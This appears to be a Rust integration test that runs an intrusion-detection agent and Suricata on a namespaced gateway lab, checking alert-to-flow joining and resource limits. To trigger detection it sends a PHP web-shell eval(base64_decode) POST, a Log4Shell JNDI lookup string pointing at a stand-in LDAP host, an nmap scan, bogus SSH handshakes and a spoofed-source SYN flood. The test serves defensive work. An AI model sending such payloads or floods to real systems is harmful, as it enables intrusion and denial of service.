//! A gateway with the agent and the Suricata that it runs, between real clients and a real server: what each sees is joined
//! to the right flow, and both stay within their share under a flood. Prints what it measured.
#![expect(clippy::unwrap_used, reason = "a test stops at the first thing that fails")]

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    io::{Read, Write},
    net::{Ipv4Addr, Shutdown, SocketAddrV4, TcpListener, TcpStream},
    path::{Path, PathBuf},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use ids_tests::{
    archive,
    capture::{ETHERNET, Timed, write_pcap},
    frame::{self, Ipv4, SYN, Tcp},
    netns::{Namespace, run, veth},
    probe::{Need, can_run},
    program::{self, Ran},
    running::{Running, value},
};
use rustix::process::Signal;
use serde_json::Value;

const AGENT: &str = env!("CARGO_BIN_EXE_agent");
const NEEDS: [Need<'static>; 8] = [
    Need::Root,
    Need::Tool("ip"),
    Need::Tool("nsenter"),
    Need::Tool("ethtool"),
    Need::Tool("suricata"),
    Need::Tool("suricata-update"),
    Need::Tool("nmap"),
    Need::Tool("tcpreplay"),
];
const CLIENT: &str = "192.168.77.10";
const ATTACKER: &str = "192.168.77.66";
const SERVER: &str = "10.77.0.80";
/// Suricata's share, as configured.
const CPU_PERCENT: u32 = 50;
const RAM_MIB: u64 = 768;

struct Lab {
    gateway: Namespace,
    lan: Namespace,
    server: Namespace,
}

impl Lab {
    fn new() -> Self {
        let [gateway, lan, server] = ["gateway", "lan", "server"].map(Namespace::new);
        veth(&gateway, "lan0", "192.168.77.1/24", &lan, "l0", "192.168.77.10/24");
        veth(&gateway, "wan0", "10.77.0.1/24", &server, "s0", "10.77.0.80/24");
        lan.ip(&["address", "add", "192.168.77.66/24", "dev", "l0"]);
        lan.ip(&["route", "add", "default", "via", "192.168.77.1"]);
        server.ip(&["route", "add", "default", "via", "10.77.0.1"]);
        gateway.sysctl("net/ipv4/ip_forward", "1");
        Self { gateway, lan, server }
    }

    /// A conversation from an address of the LAN; empty where the server closes early.
    fn ask(&self, from: &str, port: u16, said: &[&[u8]]) -> Vec<u8> {
        self.lan.run(|| {
            let from: Ipv4Addr = from.parse().unwrap();
            let socket = rustix::net::socket(rustix::net::AddressFamily::INET, rustix::net::SocketType::STREAM, None);
            let socket = socket.unwrap();
            rustix::net::bind(&socket, &SocketAddrV4::new(from, 0)).unwrap();
            let to = SocketAddrV4::new(SERVER.parse().unwrap(), port);
            rustix::net::connect(&socket, &to).unwrap();
            let mut stream = TcpStream::from(socket);
            stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut answer = Vec::new();
            for part in said {
                let _ = stream.write_all(part);
                thread::sleep(Duration::from_millis(3));
            }
            let _ = stream.shutdown(Shutdown::Write);
            let _ = stream.read_to_end(&mut answer);
            answer
        })
    }

    /// Fetches so many pages, one after another.
    fn browse(&self, pages: u32) {
        self.lan.run(|| {
            for _ in 0..pages {
                let mut stream = TcpStream::connect((SERVER, 80)).unwrap();
                stream
                    .write_all(b"GET /page.html HTTP/1.1\r\nHost: intranet.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
                    .unwrap();
                stream.read_to_end(&mut Vec::new()).unwrap();
            }
        });
    }

    fn get(&self, from: &str, path: &str) -> Vec<u8> {
        self.ask(
            from,
            80,
            &[format!("GET {path} HTTP/1.1\r\nHost: intranet.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n").as_bytes()],
        )
    }
}

/// Serves pages and refuses logins until it is told to stop.
fn serve(server: &Namespace, stop: &AtomicBool, ready: &AtomicBool) {
    server.run(|| {
        let web = TcpListener::bind((SERVER, 80)).unwrap();
        let shell = TcpListener::bind((SERVER, 22)).unwrap();
        web.set_nonblocking(true).unwrap();
        shell.set_nonblocking(true).unwrap();
        ready.store(true, Ordering::Release);
        while !stop.load(Ordering::Acquire) {
            let (page, login) = (web.accept(), shell.accept());
            let idle = page.is_err() && login.is_err();
            if let Ok((stream, _)) = page {
                answer_page(stream);
            }
            if let Ok((stream, _)) = login {
                refuse_login(stream);
            }
            if idle {
                thread::sleep(Duration::from_millis(1));
            }
        }
    });
}

fn answer_page(mut stream: TcpStream) {
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let mut request = [0; 2_048];
    let read = stream.read(&mut request).unwrap_or(0);
    let mut body = "<p>All is well with the machines of the house today.</p>\n".repeat(200);
    if request[..read].starts_with(b"GET /cgi-bin/status") {
        // Behind everything that the agent samples.
        body.push_str("<pre>uid=0(root) gid=0(root) groups=0(root)</pre>");
    }
    let length = body.len();
    let _ = write!(stream, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\n\r\n{body}");
}

fn refuse_login(mut stream: TcpStream) {
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let _ = stream.write_all(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n");
    let mut said = [0; 4_096];
    let _ = stream.read(&mut said);
    let _ = stream.write_all(&[20; 1_080]);
    let _ = stream.read(&mut said);
    let _ = stream.write_all(&[51; 52]);
}

/// ET Open where it is beside the checkout, else the local rules alone.
fn sources() -> Vec<String> {
    let Some(folder) = archive::unpacked("rules-et-open.tar.zst") else { return Vec::new() };
    let files = archive::files(&folder, &[".rules"]);
    // Rules that were withdrawn, and lists of addresses that mean nothing here.
    let kept = files.into_iter().filter(|file| !file.to_string_lossy().contains("deleted"));
    kept.map(|file| file.to_string_lossy().into_owned()).collect()
}

/// One folder of rules, as a source: each line of some of the files ends in a note that is no comment.
fn gathered(into: &Path) -> Option<PathBuf> {
    let sources = sources();
    if sources.is_empty() {
        return None;
    }
    let mut text = String::new();
    for file in sources {
        for line in String::from_utf8_lossy(&fs::read(file).unwrap()).lines() {
            text.push_str(line.split(")#@").next().unwrap());
            text.push_str(if line.contains(")#@") { ")\n" } else { "\n" });
        }
    }
    let path = into.join("et-open.rules");
    fs::write(&path, text).unwrap();
    Some(path)
}

fn lines(path: &Path) -> Vec<Value> {
    let text = fs::read_to_string(path).unwrap_or_default();
    text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

/// SYNs of sources that do not exist, at a rate: what the lab's flood looks like at the gateway.
fn flood(lab: &Lab, folder: &Path, packets_per_sec: u32, secs: u32) {
    let mut frames = Vec::new();
    for number in 0..20_000u32 {
        let word = number.wrapping_mul(0x9e37_79b1);
        let source = [172, 16 | (word >> 24) as u8 & 15, (word >> 16) as u8, (word >> 8) as u8];
        let header = Ipv4::between(source, SERVER.parse::<Ipv4Addr>().unwrap().octets(), frame::TCP);
        let segment = Tcp { seq: word, ..Tcp::ports(1_024 | word as u16, 80, SYN) };
        let bytes = frame::padded(frame::ethernet(frame::IPV4, &header.wrap(&segment.wrap(&[]))));
        frames.push(Timed::new(u64::from(number) * 1_000, bytes));
    }
    let capture = folder.join("flood.pcap");
    write_pcap(&capture, ETHERNET, &frames);
    let times = (packets_per_sec * secs / 20_000).to_string();
    let mut command = lab.lan.command("tcpreplay");
    command.args(["-q", "-i", "l0", "--pps", &packets_per_sec.to_string(), "--loop", &times]).arg(capture);
    run(&mut command);
}

/// Counters of both at a moment.
struct Moment {
    at: Instant,
    agent_cpu_secs: f64,
    suricata_cpu_secs: f64,
    packets: f64,
    agent_bytes: f64,
    suricata_bytes: f64,
}

impl Moment {
    fn of(agent: &mut Running<'_>, dir: &Path) -> Self {
        let page = agent.await_page("/metrics", |code, _| code == 200);
        let suricata = fs::read_to_string(dir.join("run/suricata.pid")).unwrap();
        Self {
            at: Instant::now(),
            agent_cpu_secs: cpu_secs(&agent.pid().as_raw_nonzero().to_string()),
            suricata_cpu_secs: cpu_secs(suricata.trim()),
            packets: value(&page, "ids_packets_seen_total"),
            agent_bytes: value(&page, "process_resident_memory_bytes"),
            suricata_bytes: value(&page, "ids_suricata_process_resident_memory_bytes"),
        }
    }
}

/// CPU time of a process, all its threads (proc(5)).
fn cpu_secs(pid: &str) -> f64 {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<&str> = stat.rsplit_once(')').unwrap().1.split_whitespace().collect();
    let ticks: u64 = fields[11..13].iter().map(|field| field.parse::<u64>().unwrap()).sum();
    ticks as f64 / rustix::param::clock_ticks_per_second() as f64
}

#[test]
fn what_suricata_and_the_agent_see_on_a_gateway_is_joined_and_both_stay_within_their_share() {
    if !can_run("the gateway with Suricata", &NEEDS) {
        return;
    }
    let lab = Lab::new();
    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name);
    let (alerts, flows, config) = (path("alerts.ndjson"), path("flows.ndjson"), path("config.toml"));
    let text = format!(
        "[site]\nhome_networks = [\"10.77.0.0/24\"]\n[state]\ndir = {:?}\n[control]\nenabled = false\n[evidence]\nkeep = 0\n[alert]\npath = {alerts:?}\nflows_path = {flows:?}\n[suricata]\n\
         manage = true\ncpu_percent = {CPU_PERCENT}\nram_mib = {RAM_MIB}\nrun_dir = {:?}\nrules_dir = {:?}\n",
        dir.path(),
        path("run"),
        path("rules"),
    );
    fs::write(&config, text).unwrap();
    let config = config.to_str().unwrap();
    let rules = gathered(dir.path());
    if let Some(rules) = &rules {
        let args = ["rules", "update", "--config", config, "--source", rules.to_str().unwrap()];
        let ran = Ran::of(&program::command(AGENT, &args).output().unwrap());
        assert_eq!(ran.code, Some(0), "{ran:?}");
        println!("rules: {}", ran.out.trim());
    }
    let stop = AtomicBool::new(false);
    let ready = AtomicBool::new(false);
    thread::scope(|scope| {
        scope.spawn(|| serve(&lab.server, &stop, &ready));
        let judged = thread::scope(|inner| inner.spawn(|| judge(&lab, config, dir.path())).join());
        stop.store(true, Ordering::Release);
        judged.unwrap_or_else(|panic| std::panic::resume_unwind(panic));
    });
}

fn judge(lab: &Lab, config: &str, dir: &Path) {
    let mut agent = Running::start(AGENT, &lab.gateway, "lan0", &["--config", config]);
    agent.await_page("/metrics", |_, page| value(page, "ids_suricata_process_answers") == 1.0);

    // A client that does nothing wrong.
    for number in 0..20 {
        assert!(!lab.get(CLIENT, &format!("/page{number}.html")).is_empty());
    }
    // Seen by signature: what a command said, deep in an answer.
    lab.get(ATTACKER, "/cgi-bin/status");
    // Seen by the agent: a scan of ports that mean nothing.
    run(lab.lan.command("nmap").args(["-sT", "-n", "-Pn", "-S", ATTACKER, "-e", "l0", "--max-rate", "300"]).args([
        "-p",
        "20000-20300",
        SERVER,
    ]));
    for _ in 0..40 {
        lab.ask(ATTACKER, 22, &[b"SSH-2.0-libssh_0.9.6\r\n", &[20; 900], &[30; 60]]);
    }
    // Seen by both: code given to a web shell, and a look-up in a log.
    let body = "z=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==";
    let form = "Content-Type: application/x-www-form-urlencoded";
    let length = body.len();
    let post =
        format!("POST /up/a.php HTTP/1.1\r\nHost: shop.example\r\n{form}\r\nContent-Length: {length}\r\n\r\n{body}");
    lab.ask(ATTACKER, 80, &[post.as_bytes()]);
    let agent_line = "User-Agent: ${jndi:ldap://203.0.113.5:1389/a}";
    lab.ask(ATTACKER, 80, &[format!("GET /search HTTP/1.1\r\nHost: shop.example\r\n{agent_line}\r\n\r\n").as_bytes()]);

    let (mut heard, mut page) = (0.0, String::new());
    let deadline = Instant::now() + Duration::from_secs(60);
    // Until the last alert is settled: Suricata says some late, and the agent waits for their flows.
    while Instant::now() < deadline {
        page = agent.await_page("/metrics", |code, _| code == 200);
        let now = value(&page, "ids_suricata_alerts_total");
        if now > 0.0 && now == heard && value(&page, "ids_suricata_waiting_alerts") == 0.0 {
            break;
        }
        heard = now;
        thread::sleep(Duration::from_secs(2));
    }
    let joined = value(&page, "ids_suricata_joined_total{by=\"community_id\"}")
        + value(&page, "ids_suricata_joined_total{by=\"tuple\"}");
    let mut signatures = BTreeMap::<String, usize>::new();
    for event in lines(&dir.join("run/eve.json")).iter().filter(|event| event["event_type"] == "alert") {
        *signatures.entry(event["alert"]["signature"].as_str().unwrap().to_owned()).or_default() += 1;
    }
    println!("signatures: {signatures:?}");
    println!("alerts of Suricata: {heard}, joined: {joined}, rate {:.4}", joined / heard);
    assert!(heard >= 1.0, "Suricata saw nothing: {page}");
    assert!(joined >= 0.99 * heard, "{page}");
    check_agreement(&dir.join("alerts.ndjson"));

    let mut load = |what: &str, work: &dyn Fn(), packets_min: f64| {
        let before = Moment::of(&mut agent, dir);
        work();
        // Packets are shown once a second.
        let passed = before.packets + packets_min;
        agent.await_page("/metrics", |_, page| value(page, "ids_packets_seen_total") >= passed);
        check_share(what, &before, &Moment::of(&mut agent, dir));
    };
    load("3,000 pages", &|| lab.browse(3_000), 30_000.0);
    load("flood", &|| flood(lab, dir, 20_000, 10), 190_000.0);

    agent.signal(Signal::TERM);
    let ran = agent.end();
    assert_eq!(ran.code, Some(0), "{ran:?}");
    // Whichever witness spoke first told it; that the other one agrees stands at the latest in the summary.
    let both = |alert: &Value| alert["ids"]["class"] == "web_attack" && alert["ids"]["agreement_kind"] == "both";
    assert!(lines(&dir.join("alerts.ndjson")).iter().any(both), "the web shell is told by both");
    let stats = lines(&dir.join("run/eve.json")).into_iter().rfind(|event| event["event_type"] == "stats");
    if let Some(stats) = stats {
        let capture = &stats["stats"]["capture"];
        println!(
            "Suricata by its statistics: {} packets, {} dropped",
            capture["kernel_packets"], capture["kernel_drops"]
        );
    }
}

/// Each attack has the witnesses that saw it, and the client none.
fn check_agreement(alerts: &Path) {
    let alerts = lines(alerts);
    let mut told = BTreeSet::new();
    for alert in &alerts {
        let ids = &alert["ids"];
        let word = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        println!(
            "  {} {}:{} -> {}:{} {} {} {}",
            word(&alert["alert"]["signature"]),
            word(&alert["src_ip"]),
            alert["src_port"],
            word(&alert["dest_ip"]),
            alert["dest_port"],
            word(&ids["class"]),
            word(&ids["agreement_kind"]),
            ids["witnesses"]
        );
        assert_ne!(alert["src_ip"], CLIENT, "the client did nothing: {alert}");
        told.insert(word(&ids["agreement_kind"]));
    }
    assert!(told.contains("signature-only"), "the answer of the server is told: {told:?}");
    assert!(told.iter().any(|word| word != "signature-only" && word != "both"), "the scan is told: {told:?}");
}

fn check_share(what: &str, before: &Moment, after: &Moment) {
    let secs = after.at.duration_since(before.at).as_secs_f64();
    let (agent, suricata) =
        (after.agent_cpu_secs - before.agent_cpu_secs, after.suricata_cpu_secs - before.suricata_cpu_secs);
    let cpus = thread::available_parallelism().unwrap().get();
    let share = (cpus * CPU_PERCENT as usize / 100).max(1);
    println!(
        "{what}: {:.0} packets in {secs:.1} s; Suricata {suricata:.2} s of CPU ({share} CPU its share), {:.0} MiB of {RAM_MIB}; \
         agent {agent:.2} s, {:.0} MiB, {:.3} of Suricata's time",
        after.packets - before.packets,
        after.suricata_bytes / f64::from(1 << 20),
        after.agent_bytes / f64::from(1 << 20),
        agent / suricata
    );
    // Clock ticks are of a hundredth of a second.
    assert!(suricata <= share as f64 * (secs + 0.1), "Suricata took more than its CPUs");
    assert!(after.suricata_bytes <= (RAM_MIB << 20) as f64, "Suricata took more than its memory");
    // The agent's own: a quarter of a CPU, and its tables at their bounds.
    assert!(agent <= 0.25 * secs, "the agent took more than a quarter of a CPU");
    assert!(after.agent_bytes <= f64::from(256 << 20), "the agent took more than 256 MiB");
}
